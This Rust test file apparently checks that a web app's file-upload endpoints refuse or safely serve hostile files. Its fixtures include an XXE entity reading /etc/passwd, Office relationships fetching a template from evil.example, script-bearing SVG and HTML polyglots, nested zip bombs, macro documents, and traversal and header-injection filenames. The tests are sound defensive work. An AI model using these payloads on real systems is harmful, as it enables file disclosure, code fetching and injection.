//! What somebody could put into a door for files: pages that call themselves pictures, pictures that go on as something else,
//! archives without end, documents with macros and with ways out, names that are paths.

use std::io::{Cursor, Read as _, Write as _};

use classroom::actions::Turn;
use testkit::{Nation, Person, Reply, TestApp};
use zip::write::SimpleFileOptions;
use zip::{ZipArchive, ZipWriter};

use crate::auth::somebody;
use crate::bad_input::bomb;
use crate::cases::{self, Case};
use crate::work::room::Room;

const STUDENTS: &[u8] = include_bytes!("../../../../people/tests/data/students.xlsx");
const DOT: &[u8] = include_bytes!("../../../../paper/tests/data/dot.png");
const HTML: &[u8] = b"<!doctype html><script>gx()</script>";
const SVG: &[u8] = b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"gx()\"><script>gx()</script></svg>";

/// Names that are more than names.
const NAMES: [&str; 12] = [
    "../../x",
    "/etc/passwd",
    "C:\\x",
    "a\0b.csv",
    "a\r\nSet-Cookie: a=b.csv",
    "a\u{202e}vsc.exe",
    "con.txt",
    "a\".csv",
    "a';b=\"c.csv",
    "",
    ".",
    "%0d%0aa.csv",
];

/// An archive of these parts.
fn archive(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut package = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, content) in parts {
        package
            .start_file(*name, SimpleFileOptions::default())
            .expect("a part");
        package.write_all(content).expect("its content");
    }
    package.finish().expect("a package").into_inner()
}

/// A document with one of its parts changed, or with one more.
fn with_part(whole: &[u8], name: &str, change: impl Fn(String) -> String) -> Vec<u8> {
    let mut package = ZipArchive::new(Cursor::new(whole)).expect("an archive");
    let mut parts: Vec<(String, Vec<u8>)> = Vec::new();
    for index in 0..package.len() {
        let mut part = package.by_index(index).expect("a part");
        let mut bytes = Vec::new();
        part.read_to_end(&mut bytes).expect("its bytes");
        parts.push((part.name().to_owned(), bytes));
    }
    match parts.iter_mut().find(|(known, _)| known == name) {
        Some((_, bytes)) => *bytes = change(String::from_utf8_lossy(bytes).into_owned()).into_bytes(),
        None => parts.push((name.to_owned(), change(String::new()).into_bytes())),
    }
    let parts: Vec<(&str, &[u8])> = parts
        .iter()
        .map(|(name, bytes)| (name.as_str(), bytes.as_slice()))
        .collect();
    archive(&parts)
}

const ENTITY: &str = "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>";

fn with_entity(xml: &str) -> String {
    let xml = &xml
        .replacen("</w:t>", "&e;</w:t>", 1)
        .replacen("</t>", "&e;</t>", 1);
    match xml.split_once("?>") {
        Some((head, rest)) => format!("{head}?>{ENTITY}{rest}"),
        None => format!("{ENTITY}{xml}"),
    }
}

fn with_way_out(rels: &str) -> String {
    let out = "<Relationship Id=\"gx1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" \
               Target=\"http://evil.example/a.dotm\" TargetMode=\"External\"/></Relationships>";
    if rels.is_empty() {
        format!("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">{out}")
    } else {
        rels.replace("</Relationships>", out)
    }
}

/// A PNG of one pixel with something behind it.
fn png(behind: &[u8]) -> Vec<u8> {
    [DOT, behind].concat()
}

/// A JPEG of one scan with something in its comment and something behind it.
fn jpeg(comment: &[u8], behind: &[u8]) -> Vec<u8> {
    let length = u16::try_from(comment.len() + 2)
        .expect("a short comment")
        .to_be_bytes();
    let frame = [0xff, 0xc0, 0, 11, 8, 0x01, 0xe0, 0x02, 0x80, 1, 1, 0x11, 0];
    let scan = [0xff, 0xda, 0, 3, 0, 1, 0xff, 0, 2, 0xff, 0xd9];
    [
        &[0xff, 0xd8, 0xff, 0xfe],
        &length[..],
        comment,
        &frame,
        &scan,
        behind,
    ]
    .concat()
}

/// Everything that is put into every door.
fn files() -> Vec<(String, Vec<u8>)> {
    let sample = crate::standards::SAMPLE;
    let zip = archive(&[("a.html", HTML)]);
    let nested = (0..8).fold(zip.clone(), |inner, _| archive(&[("a.zip", &inner)]));
    let mut all: Vec<(&str, Vec<u8>)> = vec![
        ("a.svg", SVG.to_vec()),
        ("a.jpg", SVG.to_vec()),
        ("b.jpg", HTML.to_vec()),
        ("b.csv", HTML.to_vec()),
        ("c.png", png(&zip)),
        ("d.png", png(HTML)),
        ("e.jpg", jpeg(HTML, &zip)),
        ("f.jpg", jpeg(b"*/gx();/*", HTML)),
        ("g.gif", [b"GIF89a\x01\0\x01\0\0\0\0;", HTML].concat()),
        ("h.pdf", [b"%PDF-1.7\n", &zip[..]].concat()),
        ("i.html", [b"%PDF-1.7\n", HTML].concat()),
        ("j.docx", bomb(&[], ("word/document.xml", "<w:document>"), 64)),
        ("k.xlsx", nested.clone()),
        ("k.docx", nested),
        (
            "l.docx",
            with_part(sample, "word/document.xml", |xml| with_entity(&xml)),
        ),
        (
            "m.docx",
            with_part(sample, "word/_rels/settings.xml.rels", |rels| with_way_out(&rels)),
        ),
        (
            "n.docx",
            with_part(sample, "word/_rels/document.xml.rels", |rels| with_way_out(&rels)),
        ),
        (
            "o.docm",
            with_part(sample, "word/vbaProject.bin", |_| "macro".to_owned()),
        ),
        (
            "p.xlsx",
            with_part(STUDENTS, "xl/worksheets/sheet1.xml", |xml| with_entity(&xml)),
        ),
        (
            "q.xlsx",
            with_part(STUDENTS, "xl/_rels/workbook.xml.rels", |rels| with_way_out(&rels)),
        ),
        (
            "r.xlsm",
            with_part(STUDENTS, "xl/vbaProject.bin", |_| "macro".to_owned()),
        ),
        ("s.csv", Vec::new()),
        ("t.docx", Vec::new()),
    ];
    let long = "长".repeat(300) + ".csv";
    all.push((&long, b"a,b\n1,2\n".to_vec()));
    let mut all: Vec<(String, Vec<u8>)> = all
        .into_iter()
        .map(|(name, bytes)| (name.to_owned(), bytes))
        .collect();
    all.extend(
        NAMES
            .iter()
            .map(|name| ((*name).to_owned(), b"a,b\n1,2\n".to_vec())),
    );
    all
}

/// Whether a refusal says at its place what is wrong.
fn is_told(reply: &Reply) -> bool {
    let text = reply.text();
    let at_field =
        text.contains("aria-invalid") || text.contains("invalid-feedback") || text.contains("role=\"alert\"");
    // What is no form at all, since its name broke it, is nothing that a browser sends.
    reply.status == 404 || reply.status == 413 || at_field || text.contains("class=\"notice ")
}

fn shown(reply: &Reply) -> String {
    let text = reply.text();
    let main = text.split("<main").nth(1).unwrap_or(&text);
    main.chars().take(300).collect()
}

#[tokio::test]
async fn every_door_refuses_what_is_none_of_its_files_and_stores_nothing_of_it() {
    let nation = Nation::load().await;
    let doors: Vec<&Case> = cases::all().filter(|case| case.file.is_some()).collect();
    assert!(doors.len() >= 8, "{}", doors.len());
    let (mut faults, mut refused, mut taken) = (Vec::new(), 0, 0);
    for door in doors {
        let mut rest = files().into_iter().peekable();
        // What was taken changed something: the next is put into a nation of its own.
        while rest.peek().is_some() {
            let (app, path) = fresh(&nation, door).await;
            let person = somebody(&app, &door.right).await;
            let before = app.rows().await;
            for (name, bytes) in rest.by_ref() {
                let reply = put(&app, &person, door, (&path, &name, &bytes)).await;
                let status = reply.status.as_u16();
                let mut told = |what: &str| faults.push(format!("{} {name:?} {what}", door.route));
                if status >= 500 {
                    told("breaks");
                }
                if status < 400 {
                    taken += 1;
                    let next = if reply.location().is_empty() {
                        reply.text()
                    } else {
                        person.get(reply.location()).await.text()
                    };
                    let ran = ["root:x:", "<script>gx", "onload=\"gx"];
                    if ran.iter().any(|ran| next.contains(ran)) {
                        told(&format!("ran something: {next}"));
                    }
                    break;
                }
                refused += 1;
                if app.rows().await != before {
                    told("was refused and stored");
                }
                if !is_told(&reply) {
                    told(&format!("{status} without a word: {}", shown(&reply)));
                }
            }
        }
    }
    assert!(refused > 200 && taken > 10, "{refused} refused, {taken} taken");
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

async fn fresh(nation: &Nation, door: &Case) -> (TestApp, String) {
    let app = nation.copy().await;
    let path = door.path(&app).await;
    (app, path)
}

async fn put(
    app: &TestApp,
    person: &Person<'_>,
    door: &Case,
    (path, name, bytes): (&str, &str, &[u8]),
) -> Reply {
    let fields = door.fields(app).await;
    let fields: Vec<(&str, &str)> = fields
        .iter()
        .map(|(name, value)| (*name, value.as_str()))
        .collect();
    let field = door.file.map_or("file", |file| file.field);
    person.upload(path, &fields, (field, name, bytes)).await
}

/// The doors of a work page: a photo, and a file of any kind that is taken at all.
#[tokio::test]
async fn what_a_work_page_takes_comes_back_as_what_it_is_and_runs_nowhere() {
    let app = TestApp::new().await;
    let room = Room::of(&app, 1).await;
    room.turn(3, Turn::Open).await;
    room.release(3, room.members[0].1).await;
    let student = room.student(0).await;
    let doors = [("4.2", "photo"), ("4.1", "file")];
    let (mut faults, mut taken, mut number) = (Vec::new(), 0, 0_u64);
    for (step, outcome) in doors {
        let path = format!("{}/files/{}", room.at(step), room.outcome(step, outcome));
        for (name, bytes) in files() {
            number += 1;
            let op = format!("019ab000-0000-7000-8000-{number:012x}");
            let before = app.rows().await;
            let reply = student
                .upload(&path, &[("op", &op)], ("file", &name, &bytes))
                .await;
            if reply.status != 200 {
                if reply.status.is_server_error() || app.rows().await != before {
                    faults.push(format!("{outcome} {name:?} {}", reply.status));
                }
                continue;
            }
            taken += 1;
            let text = reply.text();
            let mut links = text
                .split(['"'])
                .filter(|value| value.starts_with("/work/") && value.contains("/files/"));
            let link = links
                .rfind(|link| !link.ends_with("/removal"))
                .unwrap_or_default();
            let back = student.get(link).await;
            faults.extend(harm_of(&back).map(|harm| format!("{outcome} {name:?}: {harm}")));
            student
                .post(
                    &format!("{path}/{}/removal", link.rsplit('/').next().unwrap_or_default()),
                    &[],
                )
                .await;
        }
    }
    assert!(taken > 8, "{taken}");
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

/// What could run of a file that comes back.
fn harm_of(back: &Reply) -> Option<String> {
    let header = |name: &str| {
        let value = back.headers.get(name).and_then(|value| value.to_str().ok());
        value.unwrap_or_default().to_owned()
    };
    let (kind, how) = (header("content-type"), header("content-disposition"));
    let picture = kind.starts_with("image/");
    let ending = how.rsplit('.').next().unwrap_or_default().to_ascii_lowercase();
    let fits = match kind.as_str() {
        "image/jpeg" => ending == "jpg",
        "image/png" => ending == "png",
        "application/pdf" => ending == "pdf",
        other if other.ends_with("wordprocessingml.document") => ending == "docx",
        other if other.ends_with("spreadsheetml.sheet") => ending == "xlsx",
        _ => false,
    };
    let holds = |part: &[u8]| back.bytes.windows(part.len()).any(|window| window == part);
    if back.status != 200 || header("x-content-type-options") != "nosniff" {
        return Some(format!("{} {}", back.status, header("x-content-type-options")));
    }
    if !fits || !header("content-security-policy").contains("script-src") {
        return Some(format!("{kind} {how} {}", header("content-security-policy")));
    }
    if picture && (holds(b"<script") || holds(b"PK\x03\x04")) {
        return Some("a picture goes on as something else".to_owned());
    }
    if !picture && !how.starts_with("attachment") {
        return Some(how);
    }
    holds(b"vbaProject.bin").then(|| "macros".to_owned())
}
